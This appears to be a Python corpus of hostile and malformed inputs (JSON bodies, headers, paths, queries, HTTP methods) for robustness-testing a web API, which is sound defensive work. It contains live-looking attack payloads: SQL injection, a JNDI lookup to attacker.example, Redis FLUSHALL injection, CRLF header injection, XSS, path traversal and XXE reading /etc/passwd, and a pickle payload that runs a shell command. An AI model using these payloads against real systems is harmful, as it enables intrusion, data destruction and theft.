"""The corpus: bodies, headers, paths and queries that somebody with bad intent, or a bad library, sends."""

import gzip
import json
from typing import Any

DEEP = 100_000


def _account(**fields: Any) -> bytes:
    return json.dumps({"username": "mallory", "password": "mallory's long password", **fields}).encode()


def _nested(levels: int) -> bytes:
    return b'{"data": ' + b'{"a":' * levels + b"1" + b"}" * levels + b"}"


def _in_data(value: bytes) -> bytes:
    """A body whose only odd thing is a value in data: good for sign-up and for both profile changes."""
    return b'{"username": "mallory", "password": "mallory\'s long password", "data": {"key": ' + value + b"}}"


VALUES: dict[str, Any] = {
    "NUL": "a\0b",
    "only NUL": "\0",
    "SQL": "'; DROP TABLE users; --",
    "SQL or": "alice' OR '1'='1",
    "SQL comment": "alice'/*",
    "percent s": "%s%s%n%(name)s",
    "braces": "{0.__class__.__mro__} ${7*7} {{7*7}}",
    "jndi": "${jndi:ldap://attacker.example/a}",
    "Redis commands": "\r\nFLUSHALL\r\n*1\r\n$8\r\nFLUSHALL\r\n",
    "header": "a\r\nSet-Cookie: session=1",
    "script": "<script>alert(1)</script>",
    "traversal": "../../etc/passwd",
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈",
    "right to left": "\u202egnp.exe\u202c",
    "zero width": "al\u200bice\ufeff",
    "combining": "Z" + "\u0301" * 500,
    "control": "\x01\x02\x07\x1b[31m\x7f\x9f",
    "line separators": "a\u2028b\u2029c",
    "noncharacters": "\uffff\ufdd0\U0010ffff",
    "one NFKC becomes eighteen": "\ufdfa" * 150,
    "long": "x" * 900_000,
    "long of four bytes": "🔥" * 100_000,
    "blanks": " \t\n",
    "empty": "",
    "null": None,
    "a number": 7,
    "a fraction": 1.5,
    "true": True,
    "an array": ["alice"],
    "an object": {"$ne": None},
    "a large number": 10**400,
}

BODIES: dict[str, bytes] = {
    "100,000 arrays": b"[" * DEEP,
    "100,000 closed arrays": b"[" * DEEP + b"]" * DEEP,
    "100,000 objects": b'{"a":' * DEEP,
    "100,000 closed objects": b'{"a":' * DEEP + b"1" + b"}" * DEEP,
    "100,000 arrays in data": _in_data(b"[" * DEEP + b"]" * DEEP),
    **{f"{levels} levels in data": _nested(levels) for levels in (31, 32, 33, 100, 500, 900, 1100)},
    **{f"{each} in data": _in_data(each.encode()) for each in ("NaN", "Infinity", "-Infinity", "1e999", "-1e999")},
    **{
        f"the number {each}": _in_data(each.encode()) for each in ("01", "+1", "1.", ".5", "0x10", "1e", "--1", "1_000")
    },
    **{f"{digits} digits": _in_data(b"9" * digits) for digits in (20, 400, 4299, 4300, 4301, 10_000, 500_000)},
    "a fraction of 500,000 digits": _in_data(b"0." + b"9" * 500_000),
    "an exponent of 500,000 digits": _in_data(b"1e" + b"9" * 500_000),
    "a lone high surrogate, escaped": _in_data(rb'"\ud800"'),
    "a lone low surrogate, escaped": _in_data(rb'"\udc00"'),
    "surrogates in the wrong order": _in_data(rb'"\udc00\ud800"'),
    "a surrogate in a key": b'{"data": {"\\ud800": 1}}',
    "a surrogate in a name": b'{"username": "\\ud800", "password": "\\udfff"}',
    "a surrogate, raw": _in_data(b'"\xed\xa0\x80"'),
    "invalid UTF-8": _in_data(b'"\xff\xfe\x80"'),
    "invalid UTF-8 in a field's name": b'{"\xff\xfe": 1}',
    "overlong UTF-8": _in_data(b'"\xc0\xaf\xe0\x80\xaf"'),
    "beyond Unicode": _in_data(b'"\xf4\x90\x80\x80"'),
    "UTF-16": _account().decode().encode("utf-16"),
    "UTF-32": _account().decode().encode("utf-32"),
    "a byte order mark": b"\xef\xbb\xbf" + _account(),
    "a NUL after it": _account() + b"\0",
    "NUL bytes": b"\0" * 1000,
    "NUL, raw, in a string": _in_data(b'"a\0b"'),
    "NUL, escaped, in a value": _in_data(rb'"a\u0000b"'),
    "NUL, escaped, in a key": b'{"data": {"a\\u0000b": 1, "\\u0000": {"\\u0000": "\\u0000"}}}',
    "a line break, raw, in a string": _in_data(b'"a\nb"'),
    "a bad escape": _in_data(rb'"\x41\q"'),
    "a short escape": _in_data(rb'"\u12"'),
    "a field twice": b'{"username": "mallory", "username": "alice", "password": "short", "password": "long enough"}',
    "data twice": b'{"data": {"a": 1}, "data": {"b": 2}}',
    "a field's name in another case": b'{"Username": "mallory", "PASSWORD": "mallory\'s long password"}',
    "nothing": b"",
    "blanks": b" \r\n\t ",
    "an empty object": b"{}",
    **{f"only {each}": each.encode() for each in ("[]", '"alice"', "null", "true", "7", "[{}]", "NaN", "undefined")},
    "cut short": _account()[:-1],
    "cut in a string": _account()[:15],
    "something after it": _account() + b"x",
    "two of them": _account() + _account(),
    "with comments": b'/* hello */ {"username": "mallory"} // bye',
    "with single quotes": b"{'username': 'mallory'}",
    "a comma too many": b'{"username": "mallory",}',
    "a form": b"username=mallory&password=long+enough+password",
    "XML": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "gzip": gzip.compress(_account()),
    "pickle": b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R.",
    "__proto__": b'{"__proto__": {"role": "admin"}, "constructor": {}, "__class__": "User"}',
    "10,000 unknown fields": json.dumps({f"field{number}": number for number in range(10_000)}).encode(),
    "50,000 keys in data": _in_data(json.dumps({str(number): 0 for number in range(50_000)}).encode()),
    "64 KiB and more in data": _in_data(b'"' + b"x" * 66_000 + b'"'),
    "1 MiB and a byte": b" " * (1024 * 1024 - 1) + b"{}",
    "5 MiB": b"[" + b"0," * 2_500_000 + b"0]",
}

CONTENT_TYPES = [
    "", "text/plain", "text/json", "application/xml", "multipart/form-data; boundary=x", "multipart/form-data",
    "application/x-www-form-urlencoded", "application/json; charset=utf-16", "application/json; charset=utf-7",
    "application/json; charset=nonsense", "application/json;charset=\"utf-8\"; charset=latin-1", "APPLICATION/JSON",
    "application/merge-patch+json", "application/vnd.api+json", "application/+json", "+json",
    "application/json, text/html",
    "application/json\t", ";", "/", "application/msgpack", "application/x-yaml", "*/*", "\xff\xfe", "x" * 10_000,
]  # fmt: skip

# What a client may claim that its body has; it has less than a hundred bytes.
LENGTHS = ["-1", "0", "1", "30", "6.4e1", "0x40", "abc", "", " 64", "+64", "6 4", "٦٤", "9" * 5000]
LENGTHS_TOO_LARGE = ["100", "1000000", "1048577", "99999999999999999999"]

HEADERS: list[dict[str, str]] = [
    {"X-Request-ID": value}
    for value in ("", "x" * 100_000, "a b", "a\r\nSet-Cookie: b=c", "\0", "\xff\xe9", "<script>",
    "'; DROP TABLE users;--")
] + [
    {"Authorization": value}
    for value in (
        "", " ", "Bearer", "Bearer ", "Basic", "Basic ", "Basic !!!", "Basic Og==", "Basic YWxpY2U=", "Basic /////w==",
        "Basic AAA6AAA=", "Bearer \0", "Bearer \xff", "Bearer " + "a." * 50_000, "Digest username=alice", "Negotiate x",
        "Basic " + "QUFB" * 100_000, "Basic YWxpY2U6eA== trailing", "Basic 7aCAOu2ggA==",
    )
] + [
    {"If-Match": "*"}, {"If-Match": '"x'}, {"If-None-Match": "W/\xff"}, {"If-Modified-Since": "yesterday"},
    {"X-HTTP-Method-Override": "DELETE"}, {"X-Method-Override": "DELETE"}, {"Range": "bytes=99999999999-,-1"},
    {"Accept": "text/html"}, {"Accept": "application/xml;q=1"}, {"Accept": ";;q=\xff"}, {"Accept": "x" * 50_000},
    {"Accept-Encoding": "gzip;q=nan"}, {"Content-Encoding": "gzip"}, {"Content-Encoding": "br, gzip"},
    {"Transfer-Encoding": "chunked"}, {"Transfer-Encoding": "gzip, chunked"}, {"Expect": "200-maybe"},
    {"Cookie": "session=\xff; ;=;" + "a=b;" * 5000}, {"Host": "attacker.example\0"}, {"Origin": "null"},
    {"X-Forwarded-For": "\0, ::1, 999.1.1.1"}, {"Forwarded": 'for="[::1'}, {"User-Agent": "\xff\0" * 5000},
    {"Prefer": "wait=-1"}, {"Idempotency-Key": "x" * 10_000}, {"X-CSRF-Token": "\0"}, {"Content-Disposition": "\xff"},
]  # fmt: skip

# In the place of a name, percent-encoded as it would be sent.
NAMES = [
    "%00", "alice%00", "%2f", "%2F..%2falice", "%ff", "%c0%af", "%ed%a0%80", "..", ".", "%2e%2e", "a%0d%0aX-Evil:%201",
    "x" * 20_000, "%", "%zz", "%u0041", "%25", "alice;role=admin", "alice%3f", "alice%23", "%EF%BC%A1lic",
    "%F0%9F%94%A5", "%E2%80%AEecila", "'%20OR%201=1--", "*", "%7B%7D", "{username}", "-1", "0",
    "99999999999999999999999",
    "null", "undefined", "%20", "+", "~", "__proto__", "%EF%B7%BA" * 150, "a%CC%81" * 200,
]  # fmt: skip
PATHS = [
    "//", "//user", "/user//alice", "/user/../auth", "/./livez", "/livez/", "/livez//", "/user/alice/", "/user/alice/x",
    "/auth/sessions/x", "/auth/sessions/00000000-0000-0000-0000-000000000000", "/auth/sessions/%00",
    "/auth/sessions/" + "a" * 36,
    "/problems/%00", "/problems/..", "/openapi.json/..", "/%2e%2e/%2e%2e/etc/passwd", "/static/..%2f..%2fsettings.py",
    "", "*", "http://attacker.example/", "/\xff", "/.git/config", "/" + "a/" * 5000, "/USER",
    "/metrics/x", "/metrics//", "/Metrics",
    "/admin", "/admin/", "/admin//", "/admin/..", "/%61dmin", "/ADMIN", "/admin%00", "/admin/%00", "/admin/users/%00",
    "/admin/users/0", "/admin/users/" + "9" * 5000, "/admin/users/%D9%A1", "/admin/tasks/%ff", "/admin/login/x",
    "/admin/requests/%00", "/admin/requests/" + "x" * 5000, "/admin/requests/%3Cscript%3E", "/admin/requests/%ff",
    "/docs/", "/docs/x", "/docs//", "/docs%00",
    "/static/", "/static/..", "/static/%2e%2e%2fsettings.py", "/static/%00", "/static/aerie.css/..",
    "/static/" + "x" * 5000,
]  # fmt: skip
REFUSED_QUERIES = [
    "limit=0", "limit=201", "limit=-1", "limit=1e2", "limit=%00", "limit=1,2", "limit=%D9%A1", "limit=NaN",
    "limit=" + "9" * 5000,
    "cursor=-1", "cursor=x", "cursor=" + "9" * 20, "cursor=1.5", "cursor=(1", "cursor=%2Binf", "count=1", "count=TRUE",
    "unknown=1", "%00=%00", "%ff=%ff", "limit[$gt]=1", "limit=1;cursor=2",
    "&".join(f"a{number}=1" for number in range(5000)),
]  # fmt: skip
REFUSED_IDS = [
    "", "alice", "0", "-1", "%2B7", "%207", "1_0", "%D9%A3", "9223372036854775808", "9" * 5000, "0x1", "true",
    "1.0", "1e0", "01x",
]  # fmt: skip
REFUSED_TIMES = [
    "", "now", "2026-01-01", "2026-01-01T00:00:00", "2026-01-01T00:00:00+01:00", "0001-01-01T00:00:00Z",
    "9999-12-31T23:59:59Z", "2026-02-30T00:00:00Z", "%00", "%ff", "1e300", "nan", "-99999999999999", "9" * 5000,
    "1000000000", "1e9", "-1",
]  # fmt: skip
REFUSED_FILTERS = {
    "/users": [
        "role=", "role=ADMIN", "role=%00", "role=root", "role[]=admin", "deleted=", "deleted=true", "deleted=%00",
        "email=", "email=x", "email=a%00@b", "email=a b@c", "email=" + "x" * 300 + "@b", "email=a@b&email=a@b",
        "username=", "username=%00", "username=a%20b", "username=" + "x" * 151, "username=%E2%80%AEa", "username=*",
        "username=alice&username=alice", "username=..", "q=", "q=%00", "q=%0A", "q=" + "x" * 300, "q=%E2%80%AE",
        "q=a&q=b", "q=a&q=a", "q=%ff", "username=%ff", "email=a%ff@b",
        "id=1", "order=id", "offset=1", "Q=a", "username__like=a",
    ],
    "/tasks": [
        *(f"owner={each}" for each in REFUSED_IDS), "owner=1&owner=1",
        "status=", "status=QUEUED", "status=ended", "status=%00", "type=", "type=Delay", "type=sleep", "type=%ff",
    ],
    "/api/defects": [
        *(f"user={each}" for each in REFUSED_IDS), "user=1&user=2",
        "q=", "q=%00", "q=a%00", "q=" + "x" * 300, "q=%ff", "q=a&q=b", "comment=a", "user_id=1",
    ],
    "/notifications": [
        *(f"{name}={each}" for name in ("defect", "user") for each in REFUSED_IDS),
        "status=", "status=PENDING", "status=sent", "status=%00", "request_id=", "request_id=%00", "request_id=%C3%A9",
        "request_id=" + "x" * 129, "id=1", "key=a",
    ],
    "/audit": [
        *(f"user={each}" for each in REFUSED_IDS),
        *(f"{name}={each}" for name in ("since", "until") for each in REFUSED_TIMES),
        "model=", "model=users", "model=%00", "action=", "action=delete", "action=%ff", "object_id=", "object_id=%00",
        "object_id=%0A", "object_id=%C3%A9", "object_id=" + "x" * 129, "object_id=1&object_id=1", "request_id=a%00",
        "username=alice", "id=1", "changes=a",
    ],
}  # fmt: skip
ODD_QUERIES = [
    "limit=1&limit=2", "q=%25", "q=_", "q=%27", "q=%5C", "q=a%20b", "username=a.b",
    "count=true&count=false", "cursor=" + "9" * 19, "limit=", "count=", "&&&=", "=",
    "a" * 50_000, "%", "?",
]  # fmt: skip
METHODS = [
    "TRACE", "CONNECT", "PROPFIND", "FOO", "get", "", " ", "GET ", "WEBSOCKET", "OPTIONS", "HEAD", "\xff",
    "x" * 1000, "DEBUG",
]  # fmt: skip
